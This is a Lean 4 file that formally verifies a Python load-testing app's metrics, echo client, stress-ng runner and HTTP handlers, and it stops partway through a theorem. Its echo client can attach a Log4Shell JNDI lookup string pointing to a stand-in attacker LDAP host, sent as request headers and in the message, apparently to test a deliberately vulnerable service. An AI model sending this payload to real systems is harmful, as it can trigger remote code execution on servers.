import Mathlib

/-!
Verification of the load-testing application (src/python-app/app.py): a shallow
embedding of its metrics store, echo client, stress runner and HTTP handlers,
followed by theorems settling the specification claims.

Modelling conventions:
* Python dict counters become a `Metrics` structure; counters are `Nat`, the
  stress gauge is `Int` (it is decremented and clamped with `max 0` in one
  error path), and wall-clock derived values are `Rat` (Python floats carry no
  arithmetic of interest here, only assignment of ambient measurements).
* Ambient effects (wall time, the network, process spawning, psutil samples)
  enter as explicit parameters: the elapsed time of an attempt, a network
  environment mapping each issued request to its outcome, and per-process
  outcome values.
* Python dicts whose key set differs per branch become structures with
  `Option` fields (`none` = key absent in that branch).
-/

/-- A value carried by a form/JSON request parameter.  Flask form values are
always strings; a JSON body may also carry booleans or numbers. -/
inductive FormVal where
  | str (s : String)
  | boolean (b : Bool)
  | num (n : Int)
deriving DecidableEq, Repr

/-- A minimal JSON value universe: enough for the echo response bodies and the
handler responses the claims mention. -/
inductive JsonVal where
  | str (s : String)
  | obj (fields : List (String × JsonVal))

/-- The global `metrics` dict of app.py (lines 31-41), field for field. -/
structure Metrics where
  requests_total : Nat
  stress_tests_running : Int
  echo_requests_total : Nat
  echo_requests_failed : Nat
  echo_requests_success : Nat
  cpu_usage : Rat
  memory_usage : Rat
  last_stress_duration : Int
  last_echo_response_time : Rat
deriving DecidableEq, Repr

/-- The initial value of the `metrics` dict: every field starts at zero. -/
def initialMetrics : Metrics :=
  { requests_total := 0, stress_tests_running := 0, echo_requests_total := 0,
    echo_requests_failed := 0, echo_requests_success := 0, cpu_usage := 0,
    memory_usage := 0, last_stress_duration := 0, last_echo_response_time := 0 }

/-- How one stress process reacts to `terminate()` followed by `wait(timeout=5)`
in the `/stop` handler: both succeed, `terminate` raises, or `wait` raises
(timeout or error).  This stands for the ambient behaviour of the external
process. -/
inductive StopBehavior where
  | stops
  | failsTerminate
  | failsWait
deriving DecidableEq, Repr

/-- A handle to a spawned stress-ng process.  Distinct `subprocess.Popen`
objects never compare equal in Python, so handles are identified by a fresh
`pid`; `stopBehavior` records how the process reacts to termination. -/
structure Proc where
  pid : Nat
  stopBehavior : StopBehavior
deriving DecidableEq, Repr

/-- The mutable global state of app.py: `current_stress_processes` (line 29)
and the `metrics` dict. -/
structure AppState where
  processes : List Proc
  metrics : Metrics
deriving DecidableEq, Repr

/-- The state at interpreter start: no processes, zeroed metrics. -/
def initialAppState : AppState := { processes := [], metrics := initialMetrics }

/-- ASCII uppercase of one character, as Python `str.upper` acts on the ASCII
range (the only range exercised by the method names here). -/
def pyUpperChar (c : Char) : Char :=
  if 'a' ≤ c ∧ c ≤ 'z' then Char.ofNat (c.toNat - 32) else c

/-- Python `str.upper`, restricted to ASCII case mapping. -/
def pyUpper (s : String) : String := String.mk (s.data.map pyUpperChar)

/-- UTF-8 encoding of one character as a list of byte values. -/
def utf8Bytes (c : Char) : List Nat :=
  let n := c.toNat
  if n < 128 then [n]
  else if n < 2048 then [192 + n / 64, 128 + n % 64]
  else if n < 65536 then [224 + n / 4096, 128 + (n / 64) % 64, 128 + n % 64]
  else [240 + n / 262144, 128 + (n / 4096) % 64, 128 + (n / 64) % 64, 128 + n % 64]

/-- One uppercase hexadecimal digit. -/
def hexDig (n : Nat) : Char :=
  if n < 10 then Char.ofNat (48 + n) else Char.ofNat (55 + n)

/-- Percent-encoding of one byte value, uppercase hex as Python produces. -/
def percentByte (n : Nat) : String :=
  String.mk ['%', hexDig (n / 16), hexDig (n % 16)]

/-- Characters `urllib.parse.quote` leaves unescaped with its default
`safe='/'`: ASCII letters, digits, `_ . - ~` and `/`. -/
def pyQuoteSafe (c : Char) : Bool :=
  c.isAlpha || c.isDigit || c = '_' || c = '.' || c = '-' || c = '~' || c = '/'

/-- Python `urllib.parse.quote(message)` as used on line 104: UTF-8 encode,
then percent-encode every byte outside the safe set. -/
def pyQuote (s : String) : String :=
  s.data.foldl
    (fun acc c =>
      if pyQuoteSafe c then acc.push c
      else acc ++ String.join ((utf8Bytes c).map percentByte)) ""

/-- The echo target base URL: the default of the `ECHO_SERVICE_URL` environment
variable (line 30).  The claims do not depend on the particular base. -/
def echo_service_url : String := "http://vulnerable-echo-service:8085"

/-- The fixed injection marker of line 80 (written with escaped braces). -/
def vulnerable_msg : String := "$\x7bjndi:ldap://attacker.com/exploit\x7d"

/-- The headers built on lines 73-76 before the vulnerable branch. -/
def base_headers : List (String × String) :=
  [("Content-Type", "application/json"), ("User-Agent", "LoadTestApp/2.0")]

/-- Lines 78-82: with `vulnerable_payload` the marker is added as the two
custom headers; otherwise the headers are untouched. -/
def vulnHeaders (vulnerable_payload : Bool) : List (String × String) :=
  if vulnerable_payload then
    base_headers ++
      [("X-Vulnerable-Header", vulnerable_msg), ("X-Log4j-Test", vulnerable_msg)]
  else base_headers

/-- Line 83: with `vulnerable_payload` the marker is appended to the message;
otherwise the message is untouched. -/
def vulnMessage (message : String) (vulnerable_payload : Bool) : String :=
  if vulnerable_payload then message ++ " - VULNERABLE: " ++ vulnerable_msg
  else message

/-- The JSON body of the POST request (lines 91-95). -/
structure PostBody where
  message : String
  user_agent : String
  timestamp : String
deriving DecidableEq, Repr

/-- One HTTP request issued by the echo client, as observable at the network
boundary: method, URL, query parameters, headers, optional JSON body. -/
structure SentRequest where
  method : String
  url : String
  params : List (String × String)
  headers : List (String × String)
  body : Option PostBody
deriving DecidableEq, Repr

/-- The ambient outcome of one issued request: either an HTTP response (with
status, body text, and the result of `response.json()` — `none` when the body
is not JSON and `.json()` raises `ValueError`), or a transport-level failure
(`requests.exceptions.RequestException`: timeout, connection refused, DNS
failure) carrying its message. -/
inductive HttpAttempt where
  | response (statusCode : Nat) (text : String) (jsonParse : Option JsonVal)
  | transportError (msg : String)

/-- The POST request of lines 89-98. -/
def postRequest (headers : List (String × String)) (message timestamp : String) :
    SentRequest :=
  { method := "POST", url := echo_service_url ++ "/echo", params := [],
    headers := headers,
    body := some { message := message, user_agent := "LoadTestApp/2.0",
                   timestamp := timestamp } }

/-- The first GET attempt of lines 108-113: query parameters. -/
def getQueryRequest (headers : List (String × String)) (message : String) :
    SentRequest :=
  { method := "GET", url := echo_service_url ++ "/echo",
    params := [("message", message), ("method", "GET")], headers := headers,
    body := none }

/-- The fallback GET of lines 118-122: the url-encoded message as a path
segment. -/
def getPathRequest (headers : List (String × String)) (message : String) :
    SentRequest :=
  { method := "GET", url := echo_service_url ++ "/echo/" ++ pyQuote message,
    params := [], headers := headers, body := none }

/-- Lines 87-123 of `call_echo_service`: issue the request(s) for the chosen
method against the network environment `env` and return the attempt whose
outcome the rest of the function classifies, together with the list of
requests actually sent.  A non-POST method takes the GET path; the fallback
GET is issued exactly when the first GET raises a transport-level exception. -/
def echoAttempt (env : SentRequest → HttpAttempt)
    (headers : List (String × String)) (message timestamp method : String) :
    HttpAttempt × List SentRequest :=
  if pyUpper method = "POST" then
    (env (postRequest headers message timestamp),
     [postRequest headers message timestamp])
  else
    match env (getQueryRequest headers message) with
    | HttpAttempt.transportError _ =>
        (env (getPathRequest headers message),
         [getQueryRequest headers message, getPathRequest headers message])
    | HttpAttempt.response statusCode text jsonParse =>
        (HttpAttempt.response statusCode text jsonParse,
         [getQueryRequest headers message])

/-- The dict returned by `call_echo_service`.  The three return dicts of the
source (success, HTTP failure, transport failure) carry different key sets;
`none` marks a key absent in that branch.  `response_time_ms` stores the
elapsed time scaled to milliseconds (the 2-decimal display rounding of the
Python float is not modelled; no claim depends on it). -/
structure EchoResult where
  success : Bool
  response : Option JsonVal
  error : Option String
  status_code : Option Nat
  method : String
  vulnerable_payload : Option Bool
  response_time_ms : Rat
  service_url : Option String

/-- `call_echo_service(message, method, vulnerable_payload)` (lines 64-170).
`env` is the network, `elapsed` the wall time `time.time() - start_time`
measured for the attempt, `timestamp` the ambient `datetime.now()` string,
`m` the metrics dict on entry.  Returns the result dict, the updated metrics,
and the requests issued. -/
def call_echo_service (env : SentRequest → HttpAttempt) (elapsed : Rat)
    (timestamp message method : String) (vulnerable_payload : Bool)
    (m : Metrics) : EchoResult × Metrics × List SentRequest :=
  let headers := vulnHeaders vulnerable_payload
  let msg := vulnMessage message vulnerable_payload
  let ar := echoAttempt env headers msg timestamp method
  match ar.1 with
  | HttpAttempt.response statusCode text jsonParse =>
      -- lines 125-127: an HTTP response was received
      let m1 := { m with echo_requests_total := m.echo_requests_total + 1,
                         last_echo_response_time := elapsed }
      if statusCode = 200 then
        let m2 := { m1 with echo_requests_success := m1.echo_requests_success + 1 }
        let response_json :=
          match jsonParse with
          | some j => j
          | none => JsonVal.obj [("raw_response", JsonVal.str text)]
        ({ success := true, response := some response_json, error := none,
           status_code := some statusCode, method := method,
           vulnerable_payload := some vulnerable_payload,
           response_time_ms := elapsed * 1000,
           service_url := some echo_service_url }, m2, ar.2)
      else
        let m2 := { m1 with echo_requests_failed := m1.echo_requests_failed + 1 }
        ({ success := false, response := none,
           error := some ("HTTP " ++ toString statusCode ++ ": " ++ text),
           status_code := some statusCode, method := method,
           vulnerable_payload := none, response_time_ms := elapsed * 1000,
           service_url := none }, m2, ar.2)
  | HttpAttempt.transportError emsg =>
      -- lines 159-170: requests.exceptions.RequestException
      let m1 := { m with echo_requests_failed := m.echo_requests_failed + 1,
                         last_echo_response_time := elapsed }
      ({ success := false, response := none, error := some emsg,
         status_code := none, method := method, vulnerable_payload := none,
         response_time_ms := elapsed * 1000,
         service_url := some echo_service_url }, m1, ar.2)

/-- The stress-ng command line built on lines 180-189. -/
def stress_cmd (cpu_workers memory_workers duration : Int)
    (memory_size : String) : List String :=
  ["stress-ng", "--temp-path", "/tmp", "--cpu", toString cpu_workers, "--vm",
   toString memory_workers, "--vm-bytes", memory_size, "--timeout",
   toString duration ++ "s", "--metrics-brief", "--verbose"]

/-- The ambient outcome of one `run_stress_ng` invocation:
* `fileNotFound` — `subprocess.Popen` raises `FileNotFoundError` (binary absent);
* `spawnFailure` — `Popen` raises some other exception, before any registration;
* `completed` — the process runs and `communicate()` returns its output;
* `commFailure` — a generic exception is raised after the process was
  registered (e.g. `communicate()` fails). -/
inductive StressOutcome where
  | fileNotFound
  | spawnFailure (msg : String)
  | completed (returncode : Int) (output : String)
  | commFailure (msg : String)
deriving DecidableEq, Repr

/-- The dict returned by `run_stress_ng`; `none` marks keys absent in the
error branches. -/
structure StressResult where
  success : Bool
  return_code : Option Int
  output : Option String
  duration : Option Int
  error : Option String
deriving DecidableEq, Repr

/-- `run_stress_ng(cpu_workers, memory_workers, duration, memory_size)`
(lines 173-228), run on its worker thread against global state `s`.
On spawn the handle is appended and the gauge incremented (lines 200-202);
after `communicate()` the handle is removed (guarded `remove`, matching the
first equal handle as Python does) and the gauge decremented (208-211).
`FileNotFoundError` is reported before any registration (221-224); any other
exception reaches the generic handler which clamps the gauge down by one but
does not touch the process list (225-228). -/
def run_stress_ng (proc : Proc) (outcome : StressOutcome)
    (cpu_workers memory_workers duration : Int) (memory_size : String)
    (s : AppState) : AppState × StressResult :=
  match outcome with
  | StressOutcome.fileNotFound =>
      (s, { success := false, return_code := none, output := none,
            duration := none,
            error := some "stress-ng ist nicht installiert. Installiere es mit: apt-get install stress-ng" })
  | StressOutcome.spawnFailure msg =>
      ({ s with metrics := { s.metrics with
            stress_tests_running := max 0 (s.metrics.stress_tests_running - 1) } },
       { success := false, return_code := none, output := none,
         duration := none, error := some msg })
  | StressOutcome.completed returncode output =>
      let s1 : AppState :=
        { processes := s.processes ++ [proc],
          metrics := { s.metrics with
            stress_tests_running := s.metrics.stress_tests_running + 1,
            last_stress_duration := duration } }
      let s2 : AppState :=
        { processes := s1.processes.erase proc,
          metrics := { s1.metrics with
            stress_tests_running := s1.metrics.stress_tests_running - 1 } }
      (s2, { success := true, return_code := some returncode,
             output := some output, duration := some duration, error := none })
  | StressOutcome.commFailure msg =>
      let s1 : AppState :=
        { processes := s.processes ++ [proc],
          metrics := { s.metrics with
            stress_tests_running := s.metrics.stress_tests_running + 1,
            last_stress_duration := duration } }
      let s2 : AppState :=
        { s1 with metrics := { s1.metrics with
            stress_tests_running := max 0 (s1.metrics.stress_tests_running - 1) } }
      (s2, { success := false, return_code := none, output := none,
             duration := none, error := some msg })

/-- The quiescent-point invariant of the spec: the running gauge equals the
cardinality of the active process set. -/
def stressAgrees (s : AppState) : Prop :=
  s.metrics.stress_tests_running = (s.processes.length : Int)

instance (s : AppState) : Decidable (stressAgrees s) := by
  unfold stressAgrees
  infer_instance

/-- One observable step of the `/stop` loop over a process: either terminate
and the 5-second wait both succeeded (counted), or one of them raised (logged,
not counted). -/
inductive StopEvent where
  | stopped (pid : Nat)
  | stopError (pid : Nat)
deriving DecidableEq, Repr

/-- The pid a stop event concerns. -/
def stopEventPid : StopEvent → Nat
  | StopEvent.stopped pid => pid
  | StopEvent.stopError pid => pid

/-- The loop of lines 906-912 over the snapshot of the process list: per
process, `terminate()` then `wait(timeout=5)`; `stopped_count` is incremented
only when both return.  Yields the count and the per-process events in order. -/
def stopProcesses : List Proc → Nat × List StopEvent
  | [] => (0, [])
  | p :: rest =>
      match p.stopBehavior with
      | StopBehavior.stops =>
          let r := stopProcesses rest
          (r.1 + 1, StopEvent.stopped p.pid :: r.2)
      | StopBehavior.failsTerminate =>
          let r := stopProcesses rest
          (r.1, StopEvent.stopError p.pid :: r.2)
      | StopBehavior.failsWait =>
          let r := stopProcesses rest
          (r.1, StopEvent.stopError p.pid :: r.2)

/-- The JSON response of the `/stop` handler (lines 917-920). -/
structure StopResponse where
  message : String
  timestamp : String
deriving DecidableEq, Repr

/-- `stop_stress` — the `POST /stop` handler (lines 900-920): runs the stop
loop over the snapshot, then unconditionally clears the process list and
resets the gauge to zero, and returns the message/timestamp JSON.  Note that
this handler does not touch `requests_total`. -/
def stop_stress (timestamp : String) (s : AppState) :
    AppState × StopResponse × List StopEvent :=
  let r := stopProcesses s.processes
  ({ processes := [],
     metrics := { s.metrics with stress_tests_running := 0 } },
   { message := toString r.1 ++ " Stress Tests gestoppt",
     timestamp := timestamp },
   r.2)

/-- The key/value view of the `/stop` response as the JSON the caller sees. -/
def stopResponseJson (r : StopResponse) : List (String × JsonVal) :=
  [("message", JsonVal.str r.message), ("timestamp", JsonVal.str r.timestamp)]

/-- Python `dict.get(key)` on the parsed form/JSON request data. -/
def getForm (data : List (String × FormVal)) (key : String) : Option FormVal :=
  (data.find? (fun kv => kv.1 = key)).map Prod.snd

/-- Python `str()` of a form value, as an f-string would render it. -/
def pyStr : FormVal → String
  | FormVal.str s => s
  | FormVal.boolean b => if b then "True" else "False"
  | FormVal.num n => toString n

/-- Python `==` between an optional form value and a string literal: only an
equal string compares true; booleans, numbers and `None` (absent key) never
equal a string. -/
def pyEqStr : Option FormVal → String → Bool
  | some (FormVal.str s), t => s == t
  | _, _ => false

/-- Line 635: `data.get('vulnerable_payload') == 'true'` — the vulnerable
flag of the `POST /echo` handler. -/
def call_echo_vulnerable_flag (data : List (String × FormVal)) : Bool :=
  pyEqStr (getForm data "vulnerable_payload") "true"

/-- `metrics['requests_total'] += 1`, the first statement of every handler
except `/stop`. -/
def bumpRequests (m : Metrics) : Metrics :=
  { m with requests_total := m.requests_total + 1 }

/-- `call_echo` — the `POST /echo` handler (lines 621-733): bumps
`requests_total`, reads `message` (default `Hello from Load Test!`),
`method` (default `POST`, uppercased) and the vulnerable flag from the
request data, and delegates to `call_echo_service`.  A non-string `method`
value makes Python raise on `.upper()` and fall into the generic 500 handler,
modelled as `none`; a non-string `message` is rendered with `str()` here
(Python would carry the raw JSON value — immaterial to the claims, which use
string or absent parameters).  The HTML rendering of the form variant is out
of scope per the spec. -/
def call_echo (env : SentRequest → HttpAttempt) (elapsed : Rat)
    (timestamp : String) (data : List (String × FormVal)) (s : AppState) :
    AppState × Option (EchoResult × List SentRequest) :=
  let m := bumpRequests s.metrics
  match getForm data "method" with
  | some (FormVal.boolean _) => ({ s with metrics := m }, none)
  | some (FormVal.num _) => ({ s with metrics := m }, none)
  | methodVal =>
      let message :=
        match getForm data "message" with
        | some v => pyStr v
        | none => "Hello from Load Test!"
      let method :=
        match methodVal with
        | some (FormVal.str ms) => pyUpper ms
        | _ => "POST"
      let vulnerable_payload := call_echo_vulnerable_flag data
      let out := call_echo_service env elapsed timestamp message method
        vulnerable_payload m
      ({ s with metrics := out.2.1 }, some (out.1, out.2.2))

/-- The parsed parameters of a `POST /stress` request, after the
`int(data.get(...))` conversions of lines 810-813 (a conversion failure falls
into the generic 500 handler and never reaches the validation; the defaults
2/1/30/`256M` apply to absent keys). -/
structure StressParams where
  cpu_workers : Int
  memory_workers : Int
  duration : Int
  memory_size : String
deriving DecidableEq, Repr

/-- The JSON-visible outcome of `POST /stress`: the 400 validation error of
line 817, or the success response of lines 827-836. -/
inductive StressResponse where
  | validationError (error : String) (statusCode : Nat)
  | started (message : String) (parameters : StressParams) (timestamp : String)
deriving DecidableEq, Repr

/-- `start_stress` — the `POST /stress` handler (lines 735-857), POST branch:
bumps `requests_total`, rejects `duration > 3600` with a 400 before anything
is spawned, otherwise starts the stress run on a daemon thread and returns
immediately.  The returned `Bool` records whether a thread was spawned; the
spawned run mutates state later via `run_stress_ng`, never inside this
handler. -/
def start_stress (timestamp : String) (p : StressParams) (s : AppState) :
    AppState × StressResponse × Bool :=
  let s1 : AppState := { s with metrics := bumpRequests s.metrics }
  if p.duration > 3600 then
    (s1, StressResponse.validationError
           "Maximale Dauer ist 3600 Sekunden (1 Stunde)" 400, false)
  else
    (s1, StressResponse.started "Stress Test gestartet" p timestamp, true)

/-- `index` — the `GET /` handler (lines 582-588): bumps `requests_total` and
renders the dashboard (HTML out of scope). -/
def index (s : AppState) : AppState :=
  { s with metrics := bumpRequests s.metrics }

/-- The JSON of the `/health` handler. -/
structure HealthResponse where
  status : String
  timestamp : String
  version : String
  echo_service_url : String
deriving DecidableEq, Repr

/-- `health` — the `GET /health` handler (lines 590-599). -/
def health (timestamp : String) (s : AppState) : AppState × HealthResponse :=
  ({ s with metrics := bumpRequests s.metrics },
   { status := "healthy", timestamp := timestamp, version := "2.0.0",
     echo_service_url := echo_service_url })

/-- The ambient outcome of one `get_system_metrics` psutil sample: the
measured values, or an exception (logged, `{}` returned). -/
inductive SampleOutcome where
  | ok (cpu_percent memory_percent : Rat)
  | failure (msg : String)
deriving DecidableEq, Repr

/-- `get_system_metrics` (lines 43-61): writes the sampled cpu/memory into the
metrics on success; on failure leaves them untouched.  Returns whether a
report (non-empty dict) was produced. -/
def get_system_metrics (sample : SampleOutcome) (m : Metrics) :
    Metrics × Bool :=
  match sample with
  | SampleOutcome.ok cpu_percent memory_percent =>
      ({ m with cpu_usage := cpu_percent, memory_usage := memory_percent }, true)
  | SampleOutcome.failure _ => (m, false)

/-- `success_rate` as computed by the `/metrics` and `/status` handlers:
`(echo_requests_success / max(echo_requests_total, 1)) * 100` (the 2-decimal
display rounding of the Python float is not modelled). -/
def success_rate (m : Metrics) : Rat :=
  ((m.echo_requests_success : Rat) / ((max m.echo_requests_total 1 : Nat) : Rat)) * 100

/-- The JSON of the `/metrics` handler (lines 607-617), with the ambient
system sample abstracted to whether it succeeded. -/
structure MetricsResponse where
  application_metrics : Metrics
  system_sample_ok : Bool
  active_processes : Nat
  echo_url : String
  echo_success_rate : Rat
deriving DecidableEq, Repr

/-- `get_metrics` — the `GET /metrics` handler (lines 601-619): bumps
`requests_total`, samples the system metrics, and reports the snapshot. -/
def get_metrics (sample : SampleOutcome) (s : AppState) :
    AppState × MetricsResponse :=
  let m := bumpRequests s.metrics
  let r := get_system_metrics sample m
  ({ s with metrics := r.1 },
   { application_metrics := r.1, system_sample_ok := r.2,
     active_processes := s.processes.length, echo_url := echo_service_url,
     echo_success_rate := success_rate r.1 })

/-- The JSON of the `/status` handler (lines 884-898); `cpu_count` and
`memory_total_gb` are ambient psutil reads passed through. -/
structure StatusResponse where
  active_stress_processes : Nat
  metrics : Metrics
  echo_url : String
  echo_success_rate : Rat
  cpu_count : Nat
  memory_total_gb : Rat
  timestamp : String
deriving DecidableEq, Repr

/-- `status` — the `GET /status` handler (lines 879-898). -/
def status (cpu_count : Nat) (memory_total_gb : Rat) (timestamp : String)
    (s : AppState) : AppState × StatusResponse :=
  let m := bumpRequests s.metrics
  ({ s with metrics := m },
   { active_stress_processes := s.processes.length, metrics := m,
     echo_url := echo_service_url, echo_success_rate := success_rate m,
     cpu_count := cpu_count, memory_total_gb := memory_total_gb,
     timestamp := timestamp })

/-! ### Helper lemmas -/

/-- The requests issued by `call_echo_service` are exactly those of its
attempt phase, whatever the outcome classification does. -/
theorem call_echo_service_trace (env : SentRequest → HttpAttempt)
    (elapsed : Rat) (timestamp message method : String) (vuln : Bool)
    (m : Metrics) :
    (call_echo_service env elapsed timestamp message method vuln m).2.2
      = (echoAttempt env (vulnHeaders vuln) (vulnMessage message vuln)
          timestamp method).2 := by
  unfold call_echo_service
  cases h : (echoAttempt env (vulnHeaders vuln) (vulnMessage message vuln)
      timestamp method).1 with
  | response statusCode text jsonParse =>
      by_cases hs : statusCode = 200 <;> simp [h, hs]
  | transportError emsg => simp [h]

/-- Every request the attempt phase issues carries the headers it was given. -/
theorem echoAttempt_headers (env : SentRequest → HttpAttempt)
    (headers : List (String × String)) (message timestamp method : String) :
    ((echoAttempt env headers message timestamp method).2.all
        fun r => r.headers == headers) = true := by
  unfold echoAttempt
  split
  · simp [postRequest]
  · cases env (getQueryRequest headers message) <;>
      simp [getQueryRequest, getPathRequest]

/-- `call_echo_service` never touches `requests_total`. -/
theorem call_echo_service_requests_total (env : SentRequest → HttpAttempt)
    (elapsed : Rat) (timestamp message method : String) (vuln : Bool)
    (m : Metrics) :
    (call_echo_service env elapsed timestamp message method vuln m).2.1.requests_total
      = m.requests_total := by
  unfold call_echo_service
  cases h : (echoAttempt env (vulnHeaders vuln) (vulnMessage message vuln)
      timestamp method).1 with
  | response statusCode text jsonParse =>
      by_cases hs : statusCode = 200 <;> simp [h, hs]
  | transportError emsg => simp [h]

/-- The stop loop counts exactly the processes whose terminate and wait both
succeeded. -/
theorem stopProcesses_count (l : List Proc) :
    (stopProcesses l).1
      = (l.filter fun p => p.stopBehavior == StopBehavior.stops).length := by
  induction l with
  | nil => rfl
  | cons p rest ih =>
      cases hb : p.stopBehavior <;> simp [stopProcesses, hb, ih]

/-- The stop loop visits every process of the snapshot, in order. -/
theorem stopProcesses_pids (l : List Proc) :
    (stopProcesses l).2.map stopEventPid = l.map Proc.pid := by
  induction l with
  | nil => rfl
  | cons p rest ih =>
      cases hb : p.stopBehavior <;> simp [stopProcesses, hb, stopEventPid, ih]

/-! ### Claim theorems -/

/-- Claim C1, counterexample: a call that fails at the transport level leaves
`echo_requests_total` at 0 instead of incrementing it to 1 — only the failure
counter and the elapsed-time metric are updated, refuting the claim that every
call increments `echo_requests_total` regardless of outcome. -/
theorem echo_requests_total_not_bumped_on_transport_failure :
    (call_echo_service (fun _ => HttpAttempt.transportError "Connection refused")
        1 "t" "hi" "POST" false initialMetrics).2.1.echo_requests_total = 0 ∧
    (call_echo_service (fun _ => HttpAttempt.transportError "Connection refused")
        1 "t" "hi" "POST" false initialMetrics).2.1.echo_requests_failed = 1 ∧
    (call_echo_service (fun _ => HttpAttempt.transportError "Connection refused")
        1 "t" "hi" "POST" false initialMetrics).2.1.last_echo_response_time = 1 :=
  ⟨rfl, rfl, rfl⟩

/-- Claim C1, amended: every call updates `last_echo_response_time` to the
elapsed wall time regardless of outcome, and `echo_requests_total` is
incremented by exactly 1 exactly when an HTTP response was received; a
transport-level failure leaves `echo_requests_total` unchanged and increments
`echo_requests_failed` instead.  Success and failure counters follow the
result's success flag. -/
theorem call_echo_service_metrics_accounting (env : SentRequest → HttpAttempt)
    (elapsed : Rat) (timestamp message method : String) (vuln : Bool)
    (m : Metrics) :
    (call_echo_service env elapsed timestamp message method vuln m).2.1.last_echo_response_time
      = elapsed ∧
    (call_echo_service env elapsed timestamp message method vuln m).2.1.echo_requests_total
      = (if (call_echo_service env elapsed timestamp message method vuln m).1.status_code.isSome
         then m.echo_requests_total + 1 else m.echo_requests_total) ∧
    (call_echo_service env elapsed timestamp message method vuln m).2.1.echo_requests_failed
      = (if (call_echo_service env elapsed timestamp message method vuln m).1.success
         then m.echo_requests_failed else m.echo_requests_failed + 1) ∧
    (call_echo_service env elapsed timestamp message method vuln m).2.1.echo_requests_success
      = (if (call_echo_service env elapsed timestamp message method vuln m).1.success
         then m.echo_requests_success + 1 else m.echo_requests_success) := by
  unfold call_echo_service
  cases h : (echoAttempt env (vulnHeaders vuln) (vulnMessage message vuln)
      timestamp method).1 with
  | response statusCode text jsonParse =>
      by_cases hs : statusCode = 200 <;> simp [h, hs]
  | transportError emsg => simp [h]

/-- Claim C2: a call that receives an HTTP response is classified strictly by
status — 200 yields success and bumps the success counter by exactly 1, any
other status yields failure carrying the status code and the raw body text in
the error detail and bumps the failure counter by exactly 1. -/
theorem call_echo_service_status_classification (env : SentRequest → HttpAttempt)
    (elapsed : Rat) (timestamp message method : String) (vuln : Bool)
    (m : Metrics) (statusCode : Nat) (text : String) (jsonParse : Option JsonVal)
    (h : (echoAttempt env (vulnHeaders vuln) (vulnMessage message vuln)
          timestamp method).1 = HttpAttempt.response statusCode text jsonParse) :
    (call_echo_service env elapsed timestamp message method vuln m).1.success
      = (statusCode == 200) ∧
    (call_echo_service env elapsed timestamp message method vuln m).1.status_code
      = some statusCode ∧
    (call_echo_service env elapsed timestamp message method vuln m).1.error
      = (if statusCode = 200 then none
         else some ("HTTP " ++ toString statusCode ++ ": " ++ text)) ∧
    (call_echo_service env elapsed timestamp message method vuln m).2.1.echo_requests_success
      = (if statusCode = 200 then m.echo_requests_success + 1
         else m.echo_requests_success) ∧
    (call_echo_service env elapsed timestamp message method vuln m).2.1.echo_requests_failed
      = (if statusCode = 200 then m.echo_requests_failed
         else m.echo_requests_failed + 1) := by
  unfold call_echo_service
  by_cases hs : statusCode = 200 <;> simp [h, hs]

/-- Claim C2, witness: a target answering HTTP 500 yields a failed result
carrying status 500 and bumps the failure counter to 1. -/
theorem call_echo_service_status_classification_witness :
    (call_echo_service (fun _ => HttpAttempt.response 500 "boom" none)
        1 "t" "hi" "POST" false initialMetrics).1.success = false ∧
    (call_echo_service (fun _ => HttpAttempt.response 500 "boom" none)
        1 "t" "hi" "POST" false initialMetrics).1.status_code = some 500 ∧
    (call_echo_service (fun _ => HttpAttempt.response 500 "boom" none)
        1 "t" "hi" "POST" false initialMetrics).2.1.echo_requests_failed = 1 := by
  have h := call_echo_service_status_classification
    (fun _ => HttpAttempt.response 500 "boom" none) 1 "t" "hi" "POST" false
    initialMetrics 500 "boom" none rfl
  refine ⟨?_, ?_, ?_⟩
  · rw [h.1]; rfl
  · rw [h.2.1]
  · rw [h.2.2.2.2]; rfl

/-- Claim C3: a `POST /stress` request with duration above 3600 fails with the
400 validation error, spawns no worker thread, and leaves the process list and
running gauge untouched; any other duration (in particular 5-3600) is accepted
with the started response and a spawned worker, the handler itself returning
immediately with the process list and gauge untouched (the run proceeds
asynchronously). -/
theorem start_stress_duration_validation (timestamp : String)
    (p : StressParams) (s : AppState) :
    (start_stress timestamp p s).2.1
      = (if p.duration > 3600 then
           StressResponse.validationError
             "Maximale Dauer ist 3600 Sekunden (1 Stunde)" 400
         else StressResponse.started "Stress Test gestartet" p timestamp) ∧
    (start_stress timestamp p s).2.2 = (if p.duration > 3600 then false else true) ∧
    (start_stress timestamp p s).1.processes = s.processes ∧
    (start_stress timestamp p s).1.metrics.stress_tests_running
      = s.metrics.stress_tests_running := by
  unfold start_stress
  by_cases h : p.duration > 3600 <;> simp [h, bumpRequests]

/-- Claim C4: a GET call first issues `GET <base>/echo` with the message as a
query parameter; the path-segment fallback `GET <base>/echo/<url-encoded
message>` is issued if and only if that first request fails at the transport
level — an HTTP response with any status, 2xx or not, is classified directly
with no fallback. -/
theorem call_echo_service_get_fallback (env : SentRequest → HttpAttempt)
    (elapsed : Rat) (timestamp message : String) (vuln : Bool) (m : Metrics) :
    (getQueryRequest (vulnHeaders vuln) (vulnMessage message vuln)).url
      = echo_service_url ++ "/echo" ∧
    (getQueryRequest (vulnHeaders vuln) (vulnMessage message vuln)).params
      = [("message", vulnMessage message vuln), ("method", "GET")] ∧
    (getPathRequest (vulnHeaders vuln) (vulnMessage message vuln)).url
      = echo_service_url ++ "/echo/" ++ pyQuote (vulnMessage message vuln) ∧
    (call_echo_service env elapsed timestamp message "GET" vuln m).2.2
      = (match env (getQueryRequest (vulnHeaders vuln) (vulnMessage message vuln)) with
         | HttpAttempt.transportError _ =>
             [getQueryRequest (vulnHeaders vuln) (vulnMessage message vuln),
              getPathRequest (vulnHeaders vuln) (vulnMessage message vuln)]
         | HttpAttempt.response _ _ _ =>
             [getQueryRequest (vulnHeaders vuln) (vulnMessage message vuln)]) := by
  refine ⟨rfl, rfl, rfl, ?_⟩
  rw [call_echo_service_trace]
  unfold echoAttempt
  have hm : pyUpper "GET" = "POST" ↔ False := by decide
  simp only [hm, if_false]
  cases env (getQueryRequest (vulnHeaders vuln) (vulnMessage message vuln)) <;> rfl

/-- Claim C5: with `vulnerable=true` the fixed marker constant is attached
both as the two custom headers and as a suffix of the message; with
`vulnerable=false` the headers and message are exactly the unmodified ones,
for any message — and every request the client actually sends carries exactly
those headers and is built from that (possibly suffixed) message. -/
theorem call_echo_service_vulnerable_payload (env : SentRequest → HttpAttempt)
    (elapsed : Rat) (timestamp message method : String) (vuln : Bool)
    (m : Metrics) :
    vulnMessage message true = message ++ " - VULNERABLE: " ++ vulnerable_msg ∧
    vulnHeaders true = base_headers ++
      [("X-Vulnerable-Header", vulnerable_msg), ("X-Log4j-Test", vulnerable_msg)] ∧
    vulnMessage message false = message ∧
